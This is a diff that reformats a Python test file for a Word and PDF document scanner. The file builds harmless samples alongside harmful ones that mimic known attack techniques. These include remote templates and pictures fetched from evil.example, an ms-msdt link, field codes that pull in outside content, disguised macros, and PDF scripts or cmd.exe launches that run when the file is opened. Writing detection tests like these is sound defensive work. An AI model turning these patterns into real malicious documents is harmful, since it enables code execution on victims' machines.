@@ -11,11 +11,15 @@ W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
 
 def rels(*rows):
     """A list of relationships: (kind, target, mode)."""
-    made = "".join(f'<Relationship Id="rId{n}" Type="{kind if kind.startswith("http") else f"{REL}/{kind}"}" '
-                   f'Target="{target}"{f" TargetMode={chr(34)}{mode}{chr(34)}" if mode else ""}/>'
-                   for n, (kind, target, mode) in enumerate(rows))
-    return ('<?xml version="1.0" encoding="UTF-8"?><Relationships '
-            f'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{made}</Relationships>')
+    made = "".join(
+        f'<Relationship Id="rId{n}" Type="{kind if kind.startswith("http") else f"{REL}/{kind}"}" '
+        f'Target="{target}"{f" TargetMode={chr(34)}{mode}{chr(34)}" if mode else ""}/>'
+        for n, (kind, target, mode) in enumerate(rows)
+    )
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?><Relationships '
+        f'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{made}</Relationships>'
+    )
 
 
 def kinds(kind):
@@ -40,8 +44,12 @@ MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.
 RELS = "word/_rels/document.xml.rels"
 HARMLESS_WORD = {
     "plain": docx(),
-    "its own lists": docx(**{RELS: rels(("styles", "styles.xml", ""), ("theme", "/word/theme/theme1.xml", "")),
-                             "_rels/.rels": rels(("officeDocument", "word/document.xml", ""))}),
+    "its own lists": docx(
+        **{
+            RELS: rels(("styles", "styles.xml", ""), ("theme", "/word/theme/theme1.xml", "")),
+            "_rels/.rels": rels(("officeDocument", "word/document.xml", "")),
+        }
+    ),
     "a web link": docx(**{RELS: rels(("hyperlink", "https://council.example/letter", "External"))}),
     "a mail link": docx(**{RELS: rels(("hyperlink", "mailto:duty@council.example", "External"))}),
     "a link to a network drive": docx(**{RELS: rels(("hyperlink", "file:///S:/Team/Plan.docx", "External"))}),
@@ -50,38 +58,62 @@ HARMLESS_WORD = {
     "a link in a field": docx(text(field(' HYPERLINK "https://a.example/dde link"'))),
     "talk of links": docx(text("<w:r><w:t>LINK DDEAUTO INCLUDETEXT</w:t></w:r>")),
     "its right kind": docx(**{"[Content_Types].xml": kinds(MAIN)}),
-    "fonts and headers": docx(**{"word/fonts/font1.odttf": "x", "word/header1.xml": f"<w:hdr {W}/>",
-                                 "word/_rels/header1.xml.rels": rels(("image", "media/a.png", ""))}),
+    "fonts and headers": docx(
+        **{
+            "word/fonts/font1.odttf": "x",
+            "word/header1.xml": f"<w:hdr {W}/>",
+            "word/_rels/header1.xml.rels": rels(("image", "media/a.png", "")),
+        }
+    ),
 }
 AN_OBJECT = "another file inside it"
 A_PROGRAM = "has a program in it"
 FETCHES = "fetches something from elsewhere"
 HARMFUL_WORD = {
-    "a template on the web": (docx(**{"word/_rels/settings.xml.rels": rels(
-        ("attachedTemplate", "https://evil.example/t.dotm", "External"))}), FETCHES),
-    "a template on a share": (docx(**{"word/_rels/settings.xml.rels": rels(
-        ("attachedTemplate", "file:////evil.example/t.dotm", "External"))}), FETCHES),
-    "a template, oddly cased": (docx(**{"Word/_RELS/Settings.XML.Rels": rels(
-        ("ATTACHEDTEMPLATE", "HTTPS://evil.example/t", "eXTERNAL"))}), FETCHES),
+    "a template on the web": (
+        docx(**{"word/_rels/settings.xml.rels": rels(("attachedTemplate", "https://evil.example/t.dotm", "External"))}),
+        FETCHES,
+    ),
+    "a template on a share": (
+        docx(
+            **{"word/_rels/settings.xml.rels": rels(("attachedTemplate", "file:////evil.example/t.dotm", "External"))}
+        ),
+        FETCHES,
+    ),
+    "a template, oddly cased": (
+        docx(**{"Word/_RELS/Settings.XML.Rels": rels(("ATTACHEDTEMPLATE", "HTTPS://evil.example/t", "eXTERNAL"))}),
+        FETCHES,
+    ),
     "a picture on the web": (docx(**{RELS: rels(("image", "http://evil.example/p.png", "External"))}), FETCHES),
-    "a picture in a header": (docx(**{"word/_rels/header2.xml.rels": rels(
-        ("image", "//evil.example/p.png", "External"))}), FETCHES),
-    "a picture in a footer": (docx(**{"word/_rels/footer1.xml.rels": rels(
-        ("image", "\\\\evil.example\\p.png", "External"))}), FETCHES),
+    "a picture in a header": (
+        docx(**{"word/_rels/header2.xml.rels": rels(("image", "//evil.example/p.png", "External"))}),
+        FETCHES,
+    ),
+    "a picture in a footer": (
+        docx(**{"word/_rels/footer1.xml.rels": rels(("image", "\\\\evil.example\\p.png", "External"))}),
+        FETCHES,
+    ),
     "one that only seems inside": (docx(**{RELS: rels(("image", "https://evil.example/p.png", ""))}), FETCHES),
-    "a frame": (docx(**{"word/_rels/webSettings.xml.rels": rels(
-        ("frame", "https://evil.example/", "External"))}), FETCHES),
+    "a frame": (
+        docx(**{"word/_rels/webSettings.xml.rels": rels(("frame", "https://evil.example/", "External"))}),
+        FETCHES,
+    ),
     "a document below": (docx(**{RELS: rels(("subDocument", "part2.docx", "External"))}), FETCHES),
     "a link that runs": (docx(**{RELS: rels(("hyperlink", "ms-msdt:/id PCWDiagnostic", "External"))}), FETCHES),
-    "a link that is a script": (docx(**{RELS: rels(
-        ("hyperlink", " JavaScript:alert(1)", "External"))}), FETCHES),
-    "an object on the web": (docx(**{RELS: rels(
-        ("oleObject", "https://evil.example/x.html!", "External"))}), AN_OBJECT),
+    "a link that is a script": (docx(**{RELS: rels(("hyperlink", " JavaScript:alert(1)", "External"))}), FETCHES),
+    "an object on the web": (
+        docx(**{RELS: rels(("oleObject", "https://evil.example/x.html!", "External"))}),
+        AN_OBJECT,
+    ),
     "an object inside": (docx(**{"word/embeddings/oleObject1.bin": "x"}), AN_OBJECT),
-    "an object under another name": (docx(**{
-        RELS: rels(("oleObject", "media/pic.bin", "")), "word/media/pic.bin": "x"}), AN_OBJECT),
-    "an object by its kind": (docx(**{"[Content_Types].xml": kinds(
-        "application/vnd.openxmlformats-officedocument.oleObject")}), AN_OBJECT),
+    "an object under another name": (
+        docx(**{RELS: rels(("oleObject", "media/pic.bin", "")), "word/media/pic.bin": "x"}),
+        AN_OBJECT,
+    ),
+    "an object by its kind": (
+        docx(**{"[Content_Types].xml": kinds("application/vnd.openxmlformats-officedocument.oleObject")}),
+        AN_OBJECT,
+    ),
     "a sheet inside": (docx(**{"word/embeddings/Microsoft_Excel_Sheet.xlsx": "x"}), AN_OBJECT),
     "a piece of another kind": (docx(**{RELS: rels(("aFChunk", "chunk.dat", ""))}), AN_OBJECT),
     "a web page inside": (docx(**{"word/afchunk.htm": "<script>1</script>"}), AN_OBJECT),
@@ -90,10 +122,14 @@ HARMFUL_WORD = {
     "a macro, oddly cased": (docx(**{"WORD/VBAPROJECT.BIN": "x"}), A_PROGRAM),
     "a macro, backslashed": (docx(**{"word\\vbaProject.bin": "x"}), A_PROGRAM),
     "a macro under another name": (docx(**{RELS: rels((f"{MS}/vbaProject", "media/a.dat", ""))}), A_PROGRAM),
-    "a docm that was renamed": (docx(**{"[Content_Types].xml": kinds(
-        "application/vnd.ms-word.document.macroEnabled.main+xml")}), A_PROGRAM),
-    "a dotm that was renamed": (docx(**{"[Content_Types].xml": kinds(
-        "application/vnd.ms-word.template.MACROENABLEDTEMPLATE.main+xml")}), A_PROGRAM),
+    "a docm that was renamed": (
+        docx(**{"[Content_Types].xml": kinds("application/vnd.ms-word.document.macroEnabled.main+xml")}),
+        A_PROGRAM,
+    ),
+    "a dotm that was renamed": (
+        docx(**{"[Content_Types].xml": kinds("application/vnd.ms-word.template.MACROENABLEDTEMPLATE.main+xml")}),
+        A_PROGRAM,
+    ),
     "a control": (docx(**{RELS: rels(("control", "activeX/activeX1.xml", ""))}), A_PROGRAM),
     "a control by its part": (docx(**{"word/activeX/activeX12.xml": "<x/>"}), A_PROGRAM),
     "a program beside": (docx(**{"word/media/run.exe": "x"}), A_PROGRAM),
@@ -106,8 +142,12 @@ HARMFUL_WORD = {
     "spelt in numbers": (docx(text(field(" QUOTE 68 68 69 65 "))), FETCHES),
     "a text from elsewhere": (docx(text(field(' INCLUDETEXT "https://evil.example/x"'))), FETCHES),
     "a picture from elsewhere": (docx(text(field(' INCLUDEPICTURE "https://evil.example/x"'))), FETCHES),
-    "in sixteen bits": (docx(**{RELS: rels(("image", "http://evil.example/p", "External")).replace(
-        "UTF-8", "UTF-16").encode("utf-16")}), FETCHES),
+    "in sixteen bits": (
+        docx(
+            **{RELS: rels(("image", "http://evil.example/p", "External")).replace("UTF-8", "UTF-16").encode("utf-16")}
+        ),
+        FETCHES,
+    ),
     "entities": (docx(**{"word/settings.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "damaged"),
     "broken lists": (docx(**{RELS: "<Relationships"}), "damaged"),
 }
@@ -128,8 +168,12 @@ def pdf_of(*objects, packed=(), trailer="/Root 1 0 R"):
         head = b" ".join(offsets) + b" "
         held = zlib.compress(head + bodies)
         where[holder] = len(out)
-        out += b"%d 0 obj\n<</Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d>>\nstream\n" % (
-            holder, len(packed), len(head), len(held)) + held + b"\nendstream\nendobj\n"
+        out += (
+            b"%d 0 obj\n<</Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d>>\nstream\n"
+            % (holder, len(packed), len(head), len(held))
+            + held
+            + b"\nendstream\nendobj\n"
+        )
     table = len(out)
     rows = b"\0\0\0\0\0\0\0"
     for number in range(1, size):
@@ -140,8 +184,14 @@ def pdf_of(*objects, packed=(), trailer="/Root 1 0 R"):
         else:
             rows += b"\1" + table.to_bytes(4, "big") + b"\0\0"
     held = zlib.compress(rows)
-    out += (b"%d 0 obj\n<</Type /XRef /Size %d /W [1 4 2] %s /Filter /FlateDecode /Length %d>>\nstream\n" % (
-        size - 1, size, trailer.encode(), len(held))) + held + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table
+    out += (
+        (
+            b"%d 0 obj\n<</Type /XRef /Size %d /W [1 4 2] %s /Filter /FlateDecode /Length %d>>\nstream\n"
+            % (size - 1, size, trailer.encode(), len(held))
+        )
+        + held
+        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table
+    )
     return bytes(out)
 
 
@@ -162,7 +212,8 @@ def note(more):
 
 
 HARMLESS_PDF = {
-    "plain": book(), "opens at a page": book("/OpenAction [3 0 R /Fit]"),
+    "plain": book(),
+    "opens at a page": book("/OpenAction [3 0 R /Fit]"),
     "opens at a page by an action": book("/OpenAction <</S /GoTo /D [3 0 R /Fit]>>"),
     "a web link": book("", note("/Subtype /Link /A <</S /URI /URI (https://council.example)>>")),
     "a link to a page": book("", note("/Subtype /Link /A <</S /GoTo /D [3 0 R /Fit]>>")),
@@ -170,8 +221,13 @@ HARMLESS_PDF = {
     "words about scripts": book("", "/Contents 4 0 R", stream(b"BT (/JavaScript /Launch /JS) Tj ET")),
     "a note": book("", note("/Subtype /Text /Contents (Ask about the /JS)")),
     "packed": book("/Names 4 0 R", "", packed=("<</Dests <</Names []>>>>",)),
-    "who made it": pdf_of("<</Type /Catalog /Pages 2 0 R>>", PAGES, PAGE, "<</Title (JavaScript for children)>>",
-                          trailer="/Root 1 0 R /Info 4 0 R"),
+    "who made it": pdf_of(
+        "<</Type /Catalog /Pages 2 0 R>>",
+        PAGES,
+        PAGE,
+        "<</Title (JavaScript for children)>>",
+        trailer="/Root 1 0 R /Info 4 0 R",
+    ),
 }
 SCRIPT, INSIDE = "has a program in it (a script)", "a film or a sound inside it"
 ACTS = "by itself when it is opened or clicked"
@@ -184,13 +240,19 @@ HARMFUL_PDF = {
     "a script on a link": (book("", note(f"/Subtype /Link /A {JS}")), SCRIPT),
     "a script in a packed object": (book("/OpenAction 4 0 R", packed=(JS,)), SCRIPT),
     "a script no page leads to": (book("", "", packed=("<<>>", JS)), SCRIPT),
-    "a script as a stream": (book("", note("/Subtype /Link /A <</S /JavaScript /JS 4 0 R>>"), stream(b"app.alert(1)")),
-                             SCRIPT),
+    "a script as a stream": (
+        book("", note("/Subtype /Link /A <</S /JavaScript /JS 4 0 R>>"), stream(b"app.alert(1)")),
+        SCRIPT,
+    ),
     "a script spelt in numbers": (book("/OpenAction <</S /J#61vaScript /#4aS (x)>>"), SCRIPT),
-    "a packed script spelt in numbers": (book("/OpenAction 4 0 R", packed=(
-        "<</S /J#61v#61Script /J#53 (x)>>",)), SCRIPT),
-    "a script after another action": (book("/OpenAction 4 0 R", packed=(
-        f"<</S /GoTo /D [3 0 R /Fit] /Next {JS}>>",)), SCRIPT),
+    "a packed script spelt in numbers": (
+        book("/OpenAction 4 0 R", packed=("<</S /J#61v#61Script /J#53 (x)>>",)),
+        SCRIPT,
+    ),
+    "a script after another action": (
+        book("/OpenAction 4 0 R", packed=(f"<</S /GoTo /D [3 0 R /Fit] /Next {JS}>>",)),
+        SCRIPT,
+    ),
     "a form of scripts": (book("/AcroForm <</XFA 4 0 R>>", "", stream(b"<xdp/>")), SCRIPT),
     "a packed form of scripts": (book("/AcroForm 5 0 R", "", stream(b"<xdp/>"), packed=("<</XFA 4 0 R>>",)), SCRIPT),
     "a program that is started": (book("/OpenAction <</S /Launch /F (cmd.exe)>>"), ACTS),
@@ -199,8 +261,15 @@ HARMFUL_PDF = {
     "a form that is filled": (book("/OpenAction <</S /ImportData /F (x.fdf)>>"), ACTS),
     "another file's page": (book("", note("/Subtype /Link /A <</S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf)>>")), ACTS),
     "a file inside": (book("/Names <</EmbeddedFiles <</Names []>>>>"), INSIDE),
-    "a packed file inside": (book("/Names 5 0 R", "", stream(b"MZ"), packed=(
-        "<</EmbeddedFiles <</Names [(a) <</Type /Filespec /EF <</F 4 0 R>>>>]>>>>",)), INSIDE),
+    "a packed file inside": (
+        book(
+            "/Names 5 0 R",
+            "",
+            stream(b"MZ"),
+            packed=("<</EmbeddedFiles <</Names [(a) <</Type /Filespec /EF <</F 4 0 R>>>>]>>>>",),
+        ),
+        INSIDE,
+    ),
     "a file as a note": (book("/Foo 4 0 R", "", packed=("<</Subtype /FileAttachment /FS <</F (a)>>>>",)), INSIDE),
     "a film": (book("/Foo 4 0 R", "", packed=("<</Subtype /Screen /A <</S /Rendition>>>>",)), INSIDE),
     "a sound": (book("/Foo 4 0 R", "", packed=("<</S /Sound>>",)), INSIDE),
